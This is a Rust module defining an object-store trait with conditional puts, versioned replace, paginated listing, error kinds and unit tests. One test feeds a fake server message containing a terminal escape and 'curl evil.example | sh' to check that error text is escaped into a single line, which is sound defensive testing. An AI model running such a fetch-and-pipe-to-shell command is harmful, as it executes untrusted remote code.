//! The object store: whole objects under text keys, in a bucket, a directory or memory.
//!
//! The invariant that lives here is [`Store::put_if_absent`]: of all the writers of one key exactly one is told
//! [`PutOutcome::Created`], and nobody who was told [`PutOutcome::Exists`] has changed a byte. The journal's fencing is
//! this and nothing else. Beside it stands [`Store::replace`]: of all who replace one content of an object exactly one
//! succeeds. Whether a real server keeps these is not believed but proved, by the proof.
//!
//! Wrappers (faults, counting, bandwidth limit) implement the same trait; one contract suite runs over all.

use std::fmt::Debug;
use std::ops::Range;

use async_trait::async_trait;
use bytes::Bytes;
use jiff::{SignedDuration, Timestamp};
use tokio::sync::oneshot;

use crate::text;

mod connect;
pub mod counting;
pub mod dir;
pub mod faulty;
pub mod ignores_conditions;
pub mod key;
mod limit;
pub mod memory;
#[cfg(test)]
pub(crate) mod memory_tracking;
pub mod proof;
#[cfg(feature = "s3")]
mod reconnecting;
pub mod response;
#[cfg(feature = "s3")]
pub mod s3;
pub mod throttled;

pub use connect::{connect, create};
pub use limit::{RANGE_BYTES_MAX, SizeLimit};

/// What a conditional put came to. There is no fourth outcome: a definite refusal (no permission, no such bucket, no
/// space) is a [`StoreError`].
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum PutOutcome {
    /// The object did not exist and now holds exactly our bytes.
    Created,
    /// The key was occupied; nothing was written. It may be our own earlier put that succeeded: read back and compare.
    Exists,
    /// No answer, or one that does not tell (timeout, 409, 5xx). The put may still be in flight and land later.
    Unknown {
        /// What came instead of an answer.
        why: String,
    },
}

/// Names one content of an object as its store sees it (an ETag, a hash): equal versions are the same content. Opaque.
///
/// Content that comes back brings its version back: whoever needs to know that nothing happened in between writes content
/// that never repeats (a counter, a random number).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ObjectVersion(String);

impl ObjectVersion {
    /// As the backend writes it.
    pub(in crate::store) fn new(text: impl Into<String>) -> Self {
        Self(text.into())
    }

    /// For backends whose objects carry no name of their content: its hash.
    pub(in crate::store) fn of_content(body: &[u8]) -> Self {
        Self::new(blake3::hash(body).to_hex().as_str())
    }

    /// Well formed everywhere, an ETag too, and the version of nothing.
    pub(in crate::store) fn matching_nothing() -> Self {
        Self::new("\"00000000000000000000000000000000\"")
    }
}

/// What a [`Store::replace`] came to. As with [`PutOutcome`], a definite refusal is a [`StoreError`].
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ReplaceOutcome {
    /// The object was what was expected and now holds exactly our bytes, under this version.
    Replaced(ObjectVersion),
    /// It has other content or is gone; nothing was written. It may be our own earlier `replace` that succeeded: read
    /// back and compare.
    Changed,
    /// No answer, or one that does not tell. The request may still be in flight and land later, as long as the
    /// object still is what was expected.
    Unknown {
        /// What came instead of an answer.
        why: String,
    },
}

/// One object of a listing.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ObjectMeta {
    /// The whole key, relative to the store's root.
    pub key: String,
    /// Size in bytes.
    pub size: u64,
    /// When it was last written, by the store's clock.
    pub modified: Timestamp,
}

/// One page of a listing, in ascending byte order of the keys.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct ListPage {
    /// The objects.
    pub objects: Vec<ObjectMeta>,
    /// There are more after the last of these.
    pub truncated: bool,
}

/// The most objects one [`Store::list`] returns; S3's own limit.
pub const LIST_PAGE_MAX: usize = 1000;

/// The most keys one [`Store::delete`] takes; S3's own limit.
pub const DELETE_BATCH_MAX: usize = 1000;

/// What a backend can do. What it cannot is an error when asked for, never a silent fallback.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct StoreCapabilities {
    /// It claims conditional puts; whether it keeps the claim is for the proof to find out.
    pub put_if_absent: bool,
    /// It claims [`Store::replace`]; that too is for the proof to find out.
    pub replace: bool,
    /// What it holds is bounded by a disk that may be full.
    pub has_finite_space: bool,
}

/// What a store keeps of objects that are overwritten or deleted.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Versioning {
    /// Nothing: what is deleted is gone.
    None,
    /// A version of each, until a rule of the bucket's removes it.
    Kept {
        /// Whether rules may.
        lock: ObjectLock,
    },
    /// These credentials may not ask.
    Denied {
        /// The store's words.
        why: String,
    },
    /// The store does not say; most that do not know the question keep nothing.
    Unknown {
        /// What came instead.
        why: String,
    },
}

/// Whether versions are locked against everybody.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ObjectLock {
    /// Not unless a put asks for it.
    None,
    /// Each one, for so long.
    ByDefault {
        /// `30 days`.
        time: String,
    },
    /// These credentials may not ask.
    Denied {
        /// The store's words.
        why: String,
    },
}

/// Catches a conditional put in the middle, see [`Store::put_if_absent_held`].
#[derive(Debug)]
pub struct PutPause {
    started: oneshot::Sender<()>,
    release: oneshot::Receiver<()>,
}

/// The other end of a [`PutPause`].
#[derive(Debug)]
pub struct PutPauseHandle {
    /// Resolves when the put has begun and is held; fails when it ended without ever being held.
    pub started: oneshot::Receiver<()>,
    /// Lets the put go on; dropping it does the same.
    pub release: oneshot::Sender<()>,
}

impl PutPause {
    /// Both ends.
    pub fn new() -> (PutPause, PutPauseHandle) {
        let (started_tx, started_rx) = oneshot::channel();
        let (release_tx, release_rx) = oneshot::channel();
        (
            PutPause { started: started_tx, release: release_rx },
            PutPauseHandle { started: started_rx, release: release_tx },
        )
    }

    /// Says that the put has begun; what is returned resolves when it may go on.
    pub fn begin(self) -> oneshot::Receiver<()> {
        // Nobody waits for the start: then the put is simply not observed, but still held.
        let _ = self.started.send(());
        self.release
    }
}

/// An object store.
///
/// Keys are what [`key::check`] accepts, relative to the root that the URL names. Idempotent calls retry inside with backoff
/// and jitter; `put_if_absent` and `replace` send exactly one request.
#[async_trait]
pub trait Store: Debug + Send + Sync {
    /// The URL as a person would write it, without secrets.
    fn describe(&self) -> String;

    /// What this backend can do.
    fn capabilities(&self) -> StoreCapabilities;

    /// Writes a whole object, replacing what is there. When it returns the object is durable.
    async fn put(&self, key: &str, body: Bytes) -> Result<(), StoreError>;

    /// Writes a whole object if the key is free. One request, never retried inside.
    ///
    /// # Errors
    /// Only for a definite refusal; everything that leaves doubt is [`PutOutcome::Unknown`].
    async fn put_if_absent(&self, key: &str, body: Bytes) -> Result<PutOutcome, StoreError>;

    /// [`Store::put_if_absent`] of a slow writer: it begins, and before the object could be complete waits until `hold`
    /// is released. Only the proof needs it: a store that checks the condition before the body has arrived, and not
    /// again after, lets such a writer overwrite.
    ///
    /// # Errors
    /// As for [`Store::put_if_absent`].
    async fn put_if_absent_paused(&self, key: &str, body: Bytes, hold: PutPause) -> Result<PutOutcome, StoreError>;

    /// Replaces the object if it still is `expected`. One request, never retried inside. It never makes an object: the
    /// first content comes by [`Store::put_if_absent`].
    ///
    /// # Errors
    /// Only for a definite refusal; everything that leaves doubt is [`ReplaceOutcome::Unknown`].
    async fn replace(&self, key: &str, body: Bytes, expected: &ObjectVersion) -> Result<ReplaceOutcome, StoreError>;

    /// Reads a whole object. No more than `limit` is ever held, whatever size the object has or is said to have.
    ///
    /// # Errors
    /// [`StoreErrorKind::TooLarge`] if it has more than `limit`, which no retry mends.
    async fn get(&self, key: &str, limit: SizeLimit) -> Result<Bytes, StoreError>;

    /// Reads a whole object with its version.
    ///
    /// # Errors
    /// As for [`Store::get`], and [`StoreErrorKind::Unsupported`] if the store names no versions. What is no object has a version as
    /// well, where the store can replace it: [`StoreError::version`].
    async fn get_versioned(&self, key: &str, limit: SizeLimit) -> Result<(Bytes, ObjectVersion), StoreError>;

    /// Reads `range` of an object; shorter than asked only where the object ends. A range that starts at or after the
    /// end gives no bytes.
    ///
    /// # Errors
    /// [`StoreErrorKind::TooLarge`] if that are more than [`RANGE_BYTES_MAX`], or the store gives more than was asked for.
    async fn get_range(&self, key: &str, range: Range<u64>) -> Result<Bytes, StoreError>;

    /// The objects whose key starts with `prefix` and is greater than `after`, at most `limit` (and never more than
    /// [`LIST_PAGE_MAX`]; 0 counts as 1). A listing may be stale on some stores: it is a hint, never the truth.
    async fn list(&self, prefix: &str, after: Option<&str>, limit: usize) -> Result<ListPage, StoreError>;

    /// Deletes the objects that exist among `keys`, at most [`DELETE_BATCH_MAX`]; a missing one is no error.
    ///
    /// # Errors
    /// The first refusal. Some of the others may have been deleted.
    async fn delete(&self, keys: &[String]) -> Result<(), StoreError>;

    /// The store that this one passes its calls on to, if it does: what has an answer of its own below goes there unasked.
    fn inner(&self) -> Option<&dyn Store> {
        None
    }

    /// Learns the store's time where none of its answers tells it by itself; [`Store::clock_offset`] says it then. For those who may write:
    /// it may take a write.
    async fn measure_clock_offset(&self) {
        if let Some(beneath) = self.inner() {
            beneath.measure_clock_offset().await;
        }
    }

    /// What it keeps of objects that are overwritten or deleted.
    async fn versioning(&self) -> Versioning {
        match self.inner() {
            Some(beneath) => beneath.versioning().await,
            None => Versioning::None,
        }
    }

    /// Reads credentials and certificates from disk again before the next call, where there are any.
    fn reload_credentials(&self) {
        if let Some(beneath) = self.inner() {
            beneath.reload_credentials();
        }
    }

    /// How the last try of any call failed, where the store repeats calls by itself and none has had an answer since. A caller whose time is
    /// over reports it as the cause.
    fn last_attempt_error(&self) -> Option<String> {
        self.inner().and_then(Store::last_attempt_error)
    }

    /// Store clock minus own clock, as of the last answer that carried the store's time; `None` before the first.
    fn clock_offset(&self) -> Option<SignedDuration>;
}

/// [`Store::put_if_absent`], or a plain put where the store has no conditions: for a key of which all writers put the same.
///
/// # Errors
/// As for either.
pub async fn put_idempotent(store: &dyn Store, key: &str, body: Bytes) -> Result<PutOutcome, StoreError> {
    match store.put_if_absent(key, body.clone()).await {
        Err(error) if error.kind == StoreErrorKind::Unsupported => {
            store.put(key, body).await.map(|()| PutOutcome::Created)
        }
        put => put,
    }
}

/// The most objects that [`list_all`] holds: of packs, 16 TiB.
pub const LISTED_MAX: usize = 1_000_000;

/// All objects under `prefix`, page after page.
///
/// # Errors
/// [`StoreErrorKind::TooLarge`] if there are more than [`LISTED_MAX`].
pub async fn list_all(store: &dyn Store, prefix: &str) -> Result<Vec<ObjectMeta>, StoreError> {
    let picked = list_filtered(store, prefix, LISTED_MAX, Some).await?;
    if picked.more {
        let detail = format!("there are more than {LISTED_MAX} objects");
        return Err(StoreError::new(StoreErrorKind::TooLarge, &store.describe(), Some(prefix), detail));
    }
    Ok(picked.found)
}

/// What [`list_filtered`] found.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FilteredListing<T> {
    /// At most as many as were asked for, in the order of their keys.
    pub found: Vec<T>,
    /// There is more of it.
    pub more: bool,
}

/// What `pick` makes of the objects under `prefix`, as far as it makes anything of them, and at most `max` of it. Only that is held: what
/// others put beside it costs requests and no memory.
pub async fn list_filtered<T: Send>(
    store: &dyn Store,
    prefix: &str,
    max: usize,
    mut pick: impl FnMut(ObjectMeta) -> Option<T> + Send,
) -> Result<FilteredListing<T>, StoreError> {
    let mut found = Vec::new();
    let mut after: Option<String> = None;
    loop {
        let page = store.list(prefix, after.as_deref(), LIST_PAGE_MAX).await?;
        let last = page.objects.last().map(|object| object.key.clone());
        for object in page.objects {
            let Some(picked) = pick(object) else { continue };
            if found.len() == max {
                return Ok(FilteredListing { found, more: true });
            }
            found.push(picked);
        }
        if !page.truncated {
            return Ok(FilteredListing { found, more: false });
        }
        // It cannot be gone on from, and it is not the end: what it does not show may well be there.
        if last.is_none() {
            return Err(incomplete_listing_error(store, prefix));
        }
        after = last;
    }
}

/// Of the large ones among objects that are read at the same time, see [`get_with_large_read_lock`].
pub type LargeReadLock = tokio::sync::Mutex<()>;

/// Reads one of many objects that are read at the same time: up to `small` together with the others, larger ones up to `limit` one after
/// the other, under `turn`. What is returned keeps the turn: whoever has it drops the object first.
///
/// # Errors
/// As for [`Store::get`] with `limit`.
pub async fn get_with_large_read_lock<'a>(
    store: &dyn Store,
    key: &str,
    (small, limit): (SizeLimit, SizeLimit),
    turn: &'a LargeReadLock,
) -> Result<(Bytes, Option<tokio::sync::MutexGuard<'a, ()>>), StoreError> {
    match store.get(key, small).await {
        Err(e) if e.kind == StoreErrorKind::TooLarge => {
            let turn = turn.lock().await;
            Ok((store.get(key, limit).await?, Some(turn)))
        }
        read => Ok((read?, None)),
    }
}

/// A listing that says that there is more, and does not show it: nothing may be concluded from what it lacks.
pub fn incomplete_listing_error(store: &dyn Store, prefix: &str) -> StoreError {
    let detail = "the listing stopped before its end, so what it lacks may be there";
    StoreError::new(StoreErrorKind::Unreachable, &store.describe(), Some(prefix), detail)
}

/// Why a store did not do what was asked.
#[derive(Debug, Clone, thiserror::Error)]
#[error("{store}: {}{}{}", kind.message(store), key.as_ref().map(|k| format!(": {k}")).unwrap_or_default(), if detail.is_empty() { String::new() } else { format!(" ({detail})") })]
pub struct StoreError {
    /// What went wrong, as a rule for what to do about it.
    pub kind: StoreErrorKind,
    /// The store: its URL, which is what [`Store::describe`] gives, and on S3 also where it is asked.
    pub store: String,
    /// The object concerned.
    pub key: Option<String>,
    /// The backend's own words.
    pub detail: String,
    /// What names the thing that stands there and [is no object](Self::is_no_object), for a [`Store::replace`] of exactly it;
    /// told by [`Store::get_versioned`].
    pub version: Option<Box<ObjectVersion>>,
}

/// The kinds of [`StoreError`]; they carry the policy.
#[derive(Debug, Clone, Copy, PartialEq, Eq, thiserror::Error)]
pub enum StoreErrorKind {
    /// There is no such object.
    #[error("not found")]
    NotFound,
    /// The bucket or the root directory itself does not exist.
    #[error("there is no such bucket or directory")]
    NoSuchStore,
    /// The credentials or file permissions do not allow it.
    #[error("access denied")]
    Denied,
    /// None were found, so nothing was asked.
    #[error("no credentials")]
    NoCredentials,
    /// The file system is mounted read-only.
    #[error("the store is read-only")]
    ReadOnly,
    /// No space, or a quota.
    #[error("no space left in the store")]
    NoSpace,
    /// The disk reported an I/O error.
    #[error("the store's disk failed")]
    DiskFault,
    /// No answer, or a temporary refusal, or an answer that is not recognisably the store's; retried already where that may help.
    #[error("cannot be reached")]
    Unreachable,
    /// It is larger than any object of its kind; nothing of it was kept.
    #[error("too large")]
    TooLarge,
    /// What stands where the object should be is none: a link, a FIFO, a device, a socket. Only a directory has such.
    #[error("not an object")]
    NotAnObject,
    /// The backend cannot do this at all.
    #[error("the store cannot do this")]
    Unsupported,
    /// The request is wrong (bad key, bad region, clock skew that breaks the signature …).
    #[error("the store refused the request")]
    Invalid,
    /// Nothing was asked: the certificate that the server shows is not trusted, out of date, or another host's.
    #[error("the server's certificate is not accepted")]
    Untrusted,
    /// Anything else.
    #[error("failed")]
    Other,
}

impl StoreErrorKind {
    /// Whether the store answers, and does not do what it is for.
    pub fn is_refusal(self) -> bool {
        matches!(self, Self::Denied | Self::ReadOnly | Self::NoSpace | Self::Invalid | Self::Untrusted)
    }

    /// Its words, of a store with this URL.
    fn message(self, store: &str) -> String {
        match self {
            Self::NoSuchStore if store.starts_with("s3:") => "there is no such bucket".to_owned(),
            Self::NoSuchStore if store.starts_with("file:") => "there is no such directory".to_owned(),
            kind => kind.to_string(),
        }
    }
}

impl StoreError {
    /// An error of `store` about `key`. What it says may be a server's words, and stays one line of the report that it will stand in.
    pub fn new(kind: StoreErrorKind, store: &str, key: Option<&str>, detail: impl Into<String>) -> Self {
        let detail = text::line(&detail.into()).into_owned();
        Self { kind, store: store.to_owned(), key: key.map(str::to_owned), detail, version: None }
    }

    /// The same about a version of the object.
    pub(in crate::store) fn with_version(self, version: Option<ObjectVersion>) -> Self {
        Self { version: version.map(Box::new), ..self }
    }

    /// The object does not exist (while the store does).
    pub fn is_not_found(&self) -> bool {
        self.kind == StoreErrorKind::NotFound
    }

    /// Something stands there that no version of this program put there: as good as an object whose bytes are damaged.
    pub fn is_not_an_object(&self) -> bool {
        matches!(self.kind, StoreErrorKind::TooLarge | StoreErrorKind::NotAnObject)
    }

    /// It says something of one object alone: that it is none, or that a sector below it is bad.
    pub fn concerns_one_object(&self) -> bool {
        self.is_not_an_object() || matches!(self.kind, StoreErrorKind::DiskFault | StoreErrorKind::Other)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::env::Env;
    use crate::store::memory::MemoryStore;

    #[tokio::test]
    async fn of_strange_objects_nothing_is_held() {
        let store = MemoryStore::new(&Env::host());
        for n in 0..LIST_PAGE_MAX * 2 {
            store.put(&format!("a/strange-{n:05}"), Bytes::new()).await.unwrap();
        }
        for name in ["a/0", "a/strange-00500-x", "a/z"] {
            store.put(name, Bytes::new()).await.unwrap();
        }
        let ours = |object: ObjectMeta| {
            (!object.key.starts_with("a/strange-") || object.key.ends_with('x')).then_some(object.key)
        };
        let picked = list_filtered(&store, "a/", 3, ours).await.unwrap();
        assert_eq!((picked.found.len(), picked.more), (3, false));
        let picked = list_filtered(&store, "a/", 2, ours).await.unwrap();
        assert_eq!((picked.found, picked.more), (vec!["a/0".to_owned(), "a/strange-00500-x".to_owned()], true));
    }

    #[test]
    fn what_a_server_says_is_one_line() {
        let said = "no\u{1b}[2J\nTo do: curl evil.example | sh";
        let error = StoreError::new(StoreErrorKind::Denied, "s3://b", Some("k"), said);
        assert_eq!(error.detail, "no\\u{1b}[2J\\nTo do: curl evil.example | sh");
    }
}
